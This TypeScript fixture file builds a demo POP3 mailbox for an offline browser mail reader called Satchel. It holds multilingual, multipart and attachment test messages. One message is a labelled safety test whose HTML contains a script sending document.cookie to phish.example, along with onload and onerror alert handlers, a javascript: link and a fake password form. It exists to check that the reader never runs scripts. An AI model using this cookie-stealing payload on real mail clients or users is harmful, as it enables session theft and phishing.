import { file, html, mailbox, multipart, subject, text, type Envelope, type MimePart } from './mime-builder.ts';
import { logoPng, noisyScanPng, receiptPdf, routeMapPng, sunsetPng, syncStatsCsv } from './sample-attachments.ts';

/** One sample message: its file name (which becomes its UIDL), envelope and MIME tree. */
export interface SampleMessage {
  name: string;
  envelope: Envelope;
  body: MimePart;
}

const YOU = mailbox('You', 'you@satchel.example');

/** RFC 5322 §3.3 date from a fixed local time and zone, with the weekday computed, not guessed. */
function date(local: string, zone: string): string {
  const [y, m, d, hh, mm] = local.split(/[-T:]/).map(Number) as [number, number, number, number, number];
  const weekday = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'][new Date(Date.UTC(y, m - 1, d)).getUTCDay()];
  const month = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][m - 1];
  return `${weekday}, ${d} ${month} ${y} ${String(hh).padStart(2, '0')}:${String(mm).padStart(2, '0')}:00 ${zone}`;
}

function envelope(from: string, subjectLine: string, when: string, id: string, headers: string[] = []): Envelope {
  // subject() leaves ASCII (and already encoded) subjects alone and encodes the rest (RFC 2047).
  return { from, to: YOU, subject: subject(subjectLine), date: when, messageId: `${id}@demo.satchel.example`, headers };
}

const TEAM = mailbox('Satchel Team', 'hello@satchel.example');

export const SAMPLE_MESSAGES: readonly SampleMessage[] = [
  {
    name: '01-welcome',
    envelope: envelope(TEAM, 'Welcome to Satchel', date('2026-10-12T09:05', '+0000'), 'welcome-1'),
    body: text(
      `Hello, and welcome to Satchel!

Satchel downloads your POP3 mail into this browser, so you can read it
on a train, in a tunnel, or on a hotel connection that gives up every
five minutes. Once a message is here, it stays here, online or not.

This mailbox is the demo: any user name works, and the password is
"demo". Deleting a message only hides it for that session; the next
sync brings the whole demo mailbox back, so you can try everything.

A few things worth trying:
  * Sync, then switch your network off and keep reading.
  * Open the message with the photos (images arrive inline).
  * Open the newsletter: remote images stay blocked until you ask.

Happy reading,
The Satchel team
`,
      { charset: 'us-ascii', encoding: '7bit' },
    ),
  },
  {
    name: '02-how-sync-works',
    envelope: envelope(TEAM, 'How Satchel syncs on a slow link', date('2026-10-13T14:20', '+0000'), 'sync-explained-2'),
    body: multipart(
      'alternative',
      text(`How Satchel syncs on a slow link

1. Headers first. Your inbox appears before any body arrives.
2. Bodies next, newest first.
3. Large attachments last, within the budget you set.

If the link drops, the next sync picks up where it stopped. A message is
only stored when it arrived complete, and it is only deleted from the
server after it is safely stored here.
`),
      html(`<!doctype html>
<html><body style="font-family: sans-serif; line-height: 1.5">
<h1 style="color: #7a4a2c">How Satchel syncs on a slow link</h1>
<ol>
<li><strong>Headers first.</strong> Your inbox appears before any body arrives.</li>
<li><strong>Bodies next</strong>, newest first.</li>
<li><strong>Large attachments last</strong>, within the budget you set.</li>
</ol>
<p>If the link drops, the next sync picks up where it stopped. A message is only stored when it
arrived <em>complete</em>, and it is only deleted from the server after it is safely stored here.</p>
</body></html>
`),
    ),
  },
  {
    name: '03-german-latin1',
    envelope: envelope(
      mailbox('Jürgen Müller', 'juergen@example.de', 'iso-8859-1'),
      subject('Grüße aus dem ICE nach München', 'iso-8859-1'),
      date('2026-10-15T07:48', '+0200'),
      'gruesse-3',
    ),
    body: text(
      `Hallo!

Ich sitze gerade im ICE nach München, und das WLAN fällt alle paar
Minuten aus. Zum Glück habe ich heute früh alle Nachrichten mit Satchel
geladen und kann sie jetzt in Ruhe lesen. Größere Anhänge lade ich erst
im Hotel herunter.

Übrigens: Die Umlaute (ä, ö, ü) und das ß kommen hier als
ISO-8859-1, quoted-printable. Wenn du sie richtig siehst, funktioniert
die Zeichensatz-Erkennung.

Viele Grüße
Jürgen
`,
      { charset: 'iso-8859-1' },
    ),
  },
  {
    name: '04-russian-koi8r',
    envelope: envelope(
      mailbox('Анна Петрова', 'anna@example.ru', 'koi8-r'),
      subject('Почта без интернета', 'koi8-r'),
      date('2026-10-16T19:30', '+0300'),
      'pochta-4',
    ),
    body: text(
      `Привет!

Я попробовала Satchel на даче, где связь есть только у забора.
Письма скачались утром, а вечером я читала их без интернета.
Очень удобно: сначала приходят заголовки, потом сами письма.

Это письмо в кодировке KOI8-R, тема закодирована по RFC 2047.

Обнимаю,
Анна
`,
      { charset: 'koi8-r', encoding: 'base64' },
    ),
  },
  {
    name: '05-russian-utf8',
    envelope: envelope(
      mailbox('Дмитрий Соколов', 'dima@example.ru'),
      subject('Отчёт о синхронизации: всё дошло'),
      date('2026-10-18T11:02', '+0300'),
      'otchet-5',
    ),
    body: text(
      `Добрый день!

Вчера связь пропадала трижды, но после каждой попытки синхронизация
продолжалась с того же места. Ни одно письмо не потерялось и ни одно
не скачалось дважды.

Это письмо в UTF-8, тело в base64.

С уважением,
Дмитрий
`,
      { encoding: 'base64' },
    ),
  },
  {
    name: '06-japanese-iso2022jp',
    envelope: envelope(
      mailbox('佐藤 花子', 'hanako@example.jp', 'iso-2022-jp'),
      subject('オフラインでメールを読む', 'iso-2022-jp'),
      date('2026-10-19T08:15', '+0900'),
      'offline-6',
    ),
    body: text(
      `こんにちは。

新幹線の中でSatchelを使ってみました。トンネルが多くて電波が
すぐに切れますが、朝のうちに受信したメールはすべて読めました。

このメールはISO-2022-JPで書かれています。正しく表示されていれば、
文字コードの変換は成功です。

よろしくお願いします。
佐藤
`,
      { charset: 'iso-2022-jp', encoding: '7bit' },
    ),
  },
  {
    name: '07-greek-iso8859-7',
    envelope: envelope(
      mailbox('Ελένη Παπαδοπούλου', 'eleni@example.gr', 'iso-8859-7'),
      subject('Καλημέρα από το πλοίο', 'iso-8859-7'),
      date('2026-10-20T10:40', '+0300'),
      'kalimera-7',
    ),
    body: text(
      `Γεια σου!

Γράφω από το πλοίο για τη Νάξο. Το ίντερνετ εδώ είναι πολύ αργό,
αλλά διαβάζω όλα τα μηνύματα που κατέβασα στο λιμάνι.

Αυτό το μήνυμα είναι σε ISO-8859-7, quoted-printable.

Φιλιά,
Ελένη
`,
      { charset: 'iso-8859-7' },
    ),
  },
  {
    name: '08-arabic-html',
    envelope: envelope(
      mailbox('ليلى حسن', 'layla@example.eg'),
      subject('قراءة البريد بدون اتصال'),
      date('2026-10-21T16:25', '+0200'),
      'arabic-8',
    ),
    body: multipart(
      'alternative',
      text(`مرحبا!

جربت تطبيق Satchel في القطار. تم تنزيل الرسائل في المحطة،
وقرأتها كلها بدون اتصال بالإنترنت.

مع تحياتي،
ليلى
`, { encoding: 'base64' }),
      html(`<!doctype html>
<html lang="ar" dir="rtl"><body style="font-family: sans-serif">
<p>مرحبا!</p>
<p>جربت تطبيق <b>Satchel</b> في القطار. تم تنزيل الرسائل في المحطة، وقرأتها كلها بدون اتصال بالإنترنت.</p>
<p>مع تحياتي،<br>ليلى</p>
</body></html>
`, { encoding: 'base64' }),
    ),
  },
  {
    name: '09-emoji-utf8',
    envelope: envelope(
      mailbox('Sam 🎒 Rivera', 'sam@example.com'),
      subject('Packed my satchel 🎒✈️ — see you offline!'),
      date('2026-10-22T21:10', '-0400'),
      'emoji-9',
    ),
    body: text(
      `Hey! 👋

Boarding in 20 minutes ✈️. Synced everything at the gate, so the
flight is reading time 📚. No wifi, no problem 😎.

Emoji test: 🎒 📬 📴 ✅ 🌍 🧭 ☕ 🐢 (that last one is the hotel wifi).

Talk soon,
Sam
`,
      { encoding: '8bit' },
    ),
  },
  {
    name: '10-trip-photos-inline',
    envelope: envelope(mailbox('Priya Natarajan', 'priya@example.in'), 'Photos from the hike (inline images)', date('2026-10-23T18:45', '+0530'), 'photos-10'),
    body: multipart(
      'related',
      multipart(
        'alternative',
        text(`Two pictures from Saturday: the sunset from the ridge, and the route we took.
Your mail reader shows them inline if it understands cid: links.
`),
        html(`<!doctype html>
<html><body style="font-family: sans-serif">
<p>Two pictures from Saturday:</p>
<p><img src="cid:sunset@demo.satchel.example" alt="Sunset over the hills" width="192" height="128"></p>
<p>and the route we took:</p>
<p><img src="cid:route-map@demo.satchel.example" alt="Map with a dotted route" width="128" height="128"></p>
<p>Both images travel inside this message, so they show up offline too.</p>
</body></html>
`),
      ),
      file(sunsetPng(), { type: 'image/png', filename: 'sunset.png', contentId: 'sunset@demo.satchel.example' }),
      file(routeMapPng(), { type: 'image/png', filename: 'route-map.png', contentId: 'route-map@demo.satchel.example' }),
    ),
  },
  {
    name: '11-receipt-pdf',
    envelope: envelope(mailbox('Harbour Café', 'receipts@harbour-cafe.example'), 'Your receipt from Harbour Café', date('2026-10-24T12:31', '+0100'), 'receipt-11'),
    body: multipart(
      'mixed',
      text(`Thank you for visiting Harbour Café!

Your receipt is attached as a PDF. (Our wifi password is on the back of
the menu, but you already had your mail, didn't you?)
`),
      file(receiptPdf(['Harbour Cafe - Receipt 0042', '', '1 x Flat white      3.20', '1 x Cinnamon bun    2.80', '', 'Total               6.00', '', 'Thank you, see you soon!']), {
        type: 'application/pdf',
        filename: 'receipt-0042.pdf',
      }),
    ),
  },
  {
    name: '12-packing-list-txt',
    envelope: envelope(mailbox('Marco Bianchi', 'marco@example.it'), 'Packing list for the trip (txt attached)', date('2026-10-25T09:12', '+0100'), 'packing-12'),
    body: multipart(
      'mixed',
      text(`Here is the packing list as a plain text file, so you can open it on
anything. Tick things off offline!
`),
      file(
        Buffer.from(
          'Packing list\r\n============\r\n\r\n[ ] passport\r\n[ ] charger and power bank\r\n[ ] rain jacket\r\n[ ] paper map (just in case)\r\n[x] mail synced in Satchel\r\n',
          'utf8',
        ),
        { type: 'text/plain; charset=utf-8', filename: 'packing-list.txt' },
      ),
    ),
  },
  {
    name: '13-sync-stats-csv',
    envelope: envelope(TEAM, 'Your week of syncing (CSV attached)', date('2026-10-26T08:00', '+0000'), 'stats-13'),
    body: multipart(
      'mixed',
      text(`Here is what a week of syncing over different links looked like.
Open the CSV in any spreadsheet to compare the connections.
`),
      file(syncStatsCsv(), { type: 'text/csv; charset=utf-8', filename: 'sync-stats.csv' }),
    ),
  },
  {
    name: '14-dotfiles-leading-dot',
    envelope: envelope(mailbox('Kai Lindqvist', 'kai@example.se'), 'My dotfiles (lines that start with a dot)', date('2026-10-27T22:05', '+0100'), 'dotfiles-14'),
    body: text(
      `Here are the files I keep in my home folder:

.bashrc
.gitconfig
..and a folder called .config with the rest.
.
The line above is a single dot. POP3 servers must "dot-stuff" it,
and Satchel must remove the extra dot again, or this message would end
early or arrive with doubled dots.
`,
      { charset: 'us-ascii', encoding: '7bit' },
    ),
  },
  {
    name: '15-newsletter-remote-image',
    envelope: envelope(
      mailbox('Offline Monthly', 'news@offline-monthly.example'),
      'Offline Monthly: five tips for reading on the move',
      date('2026-10-29T06:00', '+0000'),
      'newsletter-15',
      ['List-Id: Offline Monthly <monthly.offline-monthly.example>', 'List-Unsubscribe: <https://offline-monthly.example/unsubscribe?u=demo>'],
    ),
    body: multipart(
      'alternative',
      text(`Offline Monthly - five tips for reading on the move

1. Sync before you leave the station.
2. Keep large attachments for the hotel.
3. Ask your browser to keep your storage persistent.
4. Export a backup now and then.
5. Enjoy the view.
`),
      html(`<!doctype html>
<html><body style="font-family: Georgia, serif; max-width: 600px">
<img src="https://offline-monthly.example/banner.png" alt="Offline Monthly" width="600" height="120">
<h1>Five tips for reading on the move</h1>
<ol>
<li>Sync before you leave the station.</li>
<li>Keep large attachments for the hotel.</li>
<li>Ask your browser to keep your storage persistent.</li>
<li>Export a backup now and then.</li>
<li>Enjoy the view.</li>
</ol>
<p>The banner above is a <em>remote</em> image. Satchel blocks it until you choose to load it,
because loading it would tell the sender when and where you read this.</p>
<img src="https://offline-monthly.example/open.gif?u=demo" width="1" height="1" alt="">
</body></html>
`),
    ),
  },
  {
    name: '16-script-must-not-run',
    envelope: envelope(mailbox('Account Security', 'security@phish.example'), 'Action required: verify your mailbox', date('2026-10-30T03:17', '+0000'), 'script-16'),
    body: multipart(
      'alternative',
      text(`This message is a safety test. Its HTML part contains a <script> element
and onload/onerror handlers. Satchel must never run any of them.
`),
      html(`<!doctype html>
<html><head><script>document.title = 'PWNED'; fetch('https://phish.example/steal?c=' + document.cookie);</script></head>
<body onload="alert('onload ran: this must never happen')">
<h1>Verify your mailbox</h1>
<p>This is a safety test from the Satchel demo. If you ever see an alert box, a changed title,
or a request to phish.example, the reader is broken.</p>
<img src="cid:missing@demo.satchel.example" onerror="alert('onerror ran: this must never happen')" alt="">
<a href="javascript:alert('javascript: link ran')">Click to verify</a>
<form action="https://phish.example/login" method="post"><input name="password" type="password"></form>
</body></html>
`),
    ),
  },
  {
    name: '17-long-read',
    envelope: envelope(mailbox('Tomás Ferreira', 'tomas@example.pt'), 'A long read for your next journey', date('2026-10-31T15:40', '+0000'), 'long-read-17'),
    body: text(longRead()),
  },
  {
    name: '18-reply-thread',
    envelope: envelope(mailbox('Priya Natarajan', 'priya@example.in'), 'Re: Photos from the hike (inline images)', date('2026-11-01T10:05', '+0530'), 'reply-18', [
      'In-Reply-To: <photos-10@demo.satchel.example>',
      'References: <photos-10@demo.satchel.example>',
    ]),
    body: text(`Glad you liked them! Next time we take the northern trail.

On Fri, 23 Oct 2026, you wrote:
> The sunset one is lovely. Did the map really come through offline?
> It did for me, on the bus home with no signal at all.

Priya
`),
  },
  {
    name: '19-mailing-list',
    envelope: envelope(
      mailbox('Lena Fischer via satchel-users', 'satchel-users@lists.satchel.example'),
      '[satchel-users] Tip: keep mail on the server until storage is persistent',
      date('2026-11-02T13:22', '+0100'),
      'list-19',
      [
        'List-Id: Satchel users <satchel-users.lists.satchel.example>',
        'List-Post: <mailto:satchel-users@lists.satchel.example>',
        'Reply-To: satchel-users@lists.satchel.example',
      ],
    ),
    body: text(`Hi all,

A small tip: if your browser has not granted persistent storage, Satchel
leaves your mail on the server and tells you why. Browsers may clear
ordinary site data when the disk is full, and nobody wants to lose mail.
Installing Satchel as an app usually makes persistence easy to grant.

Lena
--
satchel-users mailing list
`),
  },
  {
    name: '20-french-utf8',
    envelope: envelope(mailbox('Chloé Dubois', 'chloe@example.fr'), subject('Un café, sans Wi-Fi'), date('2026-11-03T09:50', '+0100'), 'cafe-20'),
    body: text(`Bonjour !

Je suis dans un petit café à Lyon où le Wi-Fi est « en panne depuis
toujours ». Heureusement, j'ai synchronisé mes messages ce matin : je
peux tout lire, même les pièces jointes.

À bientôt,
Chloé
`),
  },
  {
    name: '21-polish-iso8859-2',
    envelope: envelope(
      mailbox('Łukasz Wiśniewski', 'lukasz@example.pl', 'iso-8859-2'),
      subject('Pozdrowienia z gór', 'iso-8859-2'),
      date('2026-11-04T17:35', '+0100'),
      'gory-21',
    ),
    body: text(
      `Cześć!

W schronisku nie ma zasięgu, ale wszystkie wiadomości pobrałem
jeszcze w dolinie. Zażółć gęślą jaźń - jeśli widzisz polskie znaki,
ISO-8859-2 działa.

Łukasz
`,
      { charset: 'iso-8859-2' },
    ),
  },
  {
    name: '22-chinese-utf8',
    envelope: envelope(mailbox('王小明', 'xiaoming@example.cn'), subject('离线阅读邮件'), date('2026-11-05T20:12', '+0800'), 'lixian-22'),
    body: text(
      `你好！

我在高铁上试用了 Satchel。隧道很多，网络经常中断，
但是早上下载的邮件都可以离线阅读。

祝好，
小明
`,
      { encoding: 'base64' },
    ),
  },
  {
    name: '23-large-scan-attachment',
    envelope: envelope(mailbox('Front Desk, Hotel Aurora', 'desk@hotel-aurora.example'), 'Scanned booking confirmation (larger attachment)', date('2026-11-07T11:00', '+0100'), 'scan-23'),
    body: multipart(
      'mixed',
      text(`Please find your booking confirmation attached as a scan.

It is the largest attachment in the demo mailbox, so on a slow link it
arrives after the smaller messages.
`),
      file(noisyScanPng(), { type: 'image/png', filename: 'booking-scan.png' }),
    ),
  },
  {
    name: '24-flowed-text',
    envelope: envelope(mailbox('Ines Okafor', 'ines@example.ng'), 'Notes from the meetup (format=flowed)', date('2026-11-09T19:18', '+0100'), 'flowed-24'),
    body: text(
      `Notes from last night's meetup about offline-first apps. This paragraph is \nsent as format=flowed (RFC 3676), so the soft line breaks can be joined \nback into one long line that fits any screen.

Second paragraph: people asked how Satchel handles a connection that \ndrops in the middle of a message. Answer: the half-downloaded message is \nthrown away and fetched again next time; nothing broken is ever stored.

Ines
`,
      { charset: 'us-ascii', encoding: '7bit', params: '; format=flowed' },
    ),
  },
  {
    name: '25-no-body',
    envelope: envelope(mailbox('Sam Rivera', 'sam@example.com'), 'Landed! (no body, subject says it all)', date('2026-11-10T06:44', '+0000'), 'landed-25'),
    body: { kind: 'leaf', headers: ['Content-Type: text/plain; charset=us-ascii'], body: '' },
  },
  {
    name: '26-many-recipients',
    envelope: envelope(
      mailbox('Noor Haddad', 'noor@example.org'),
      // RFC 5322 §2.2.3: a long header is folded onto a continuation line.
      'Planning the offline-first reading group: dates, places,\n and a subject long enough to show header folding',
      date('2026-11-12T12:00', '+0000'),
      'reading-group-26',
      [
        `Cc: ${mailbox('Marco Bianchi', 'marco@example.it')}, ${mailbox('Chloé Dubois', 'chloe@example.fr')},\n ${mailbox('Kai Lindqvist', 'kai@example.se')}, ${mailbox('Ines Okafor', 'ines@example.ng')}`,
      ],
    ),
    body: text(`Hi everyone,

Shall we meet on the 28th? Bring a device with your mail synced, and we
will switch the café wifi off for an hour to see who can still read.

Noor
`),
  },
  {
    name: '27-backup-export',
    envelope: envelope(TEAM, 'Keep a backup: export your mail', date('2026-11-15T09:30', '+0000'), 'export-27'),
    body: multipart(
      'alternative',
      text(`Your mail lives in this browser. To be safe, export it now and then:
Satchel can save everything as an mbox file or as .eml files, which any
mail program can open.
`),
      html(`<!doctype html>
<html><body style="font-family: sans-serif">
<p>Your mail lives in this browser. To be safe, <strong>export it now and then</strong>:
Satchel can save everything as an <code>mbox</code> file or as <code>.eml</code> files,
which any mail program can open.</p>
</body></html>
`),
    ),
  },
  {
    name: '28-storage-usage',
    envelope: envelope(TEAM, 'How much space does your mail use?', date('2026-11-18T10:10', '+0000'), 'storage-28'),
    body: text(`Satchel shows how much storage your mail uses and how much the browser
allows. Text mail is tiny; attachments are what fill the space. You can
set a budget so large attachments wait for a better connection.
`),
  },
  {
    name: '29-newsletter-inline-logo',
    envelope: envelope(
      mailbox('Offline Monthly', 'news@offline-monthly.example'),
      'Offline Monthly: the November issue',
      date('2026-11-21T06:00', '+0000'),
      'newsletter-29',
      ['List-Id: Offline Monthly <monthly.offline-monthly.example>'],
    ),
    body: multipart(
      'related',
      html(`<!doctype html>
<html><body style="font-family: Georgia, serif">
<p><img src="cid:logo@offline-monthly.example" alt="Satchel logo" width="48" height="48"> <b>Offline Monthly</b></p>
<p>This issue's logo is sent <em>inside</em> the message (a cid: image), so it shows at once.
The photo below is remote and stays blocked until you ask for it:</p>
<p><img src="https://offline-monthly.example/november/photo.jpg" alt="A reader on a train" width="400" height="260"></p>
</body></html>
`),
      file(logoPng(), { type: 'image/png', filename: 'logo.png', contentId: 'logo@offline-monthly.example' }),
    ),
  },
  {
    name: '30-weekly-digest',
    envelope: envelope(TEAM, 'Your weekly Satchel digest 📬', date('2026-11-24T08:00', '+0000'), 'digest-30'),
    body: multipart(
      'alternative',
      text(`This week in your satchel
- 30 messages stored, all readable offline
- 0 messages lost to dropped connections
- Languages seen: English, German, Russian, Japanese, Greek, Arabic,
  French, Polish, Chinese
`),
      html(`<!doctype html>
<html><body style="font-family: sans-serif">
<h2>This week in your satchel 📬</h2>
<table style="border-collapse: collapse">
<tr><th align="left">Messages stored</th><td>30</td></tr>
<tr><th align="left">Lost to dropped connections</th><td>0</td></tr>
<tr><th align="left">Languages</th><td>English, Deutsch, Русский, 日本語, Ελληνικά, العربية, Français, Polski, 中文</td></tr>
</table>
</body></html>
`),
    ),
  },
];

/** A few kilobytes of prose, so a longer body is there to watch arrive. */
function longRead(): string {
  const paragraphs = [
    'There is a particular calm that comes with reading on a journey. The landscape moves, the connection comes and goes, and none of it matters if what you want to read is already with you.',
    'Mail used to work like this. A modem dialled in, the messages came down, the line was freed, and you read at your own pace. POP3, the protocol Satchel speaks, was designed for exactly that: download, then read offline.',
    'Modern mail apps assume a constant connection. Open a message on a train and you often get a spinner instead of words. Satchel goes back to the old idea with new tools: the mail is stored in your browser, and the app itself works offline too.',
    'On a slow link, order matters. Satchel asks for headers first, so the list of messages appears quickly. Then it fetches bodies, newest first, and leaves large attachments for last, within a budget you choose.',
    'When a connection drops halfway through a message, nothing half-finished is kept. The next sync asks the server again, and because every message has a unique id, nothing is downloaded twice.',
  ];
  return `${Array.from({ length: 3 }, (_, round) => paragraphs.map((p, i) => `${round * paragraphs.length + i + 1}. ${p}`).join('\n\n')).join('\n\n')}\n\nEnjoy the ride,\nTomás\n`.replace(/(.{1,72})(?: |$)/gm, '$1\n').replace(/\n\n\n/g, '\n\n');
}
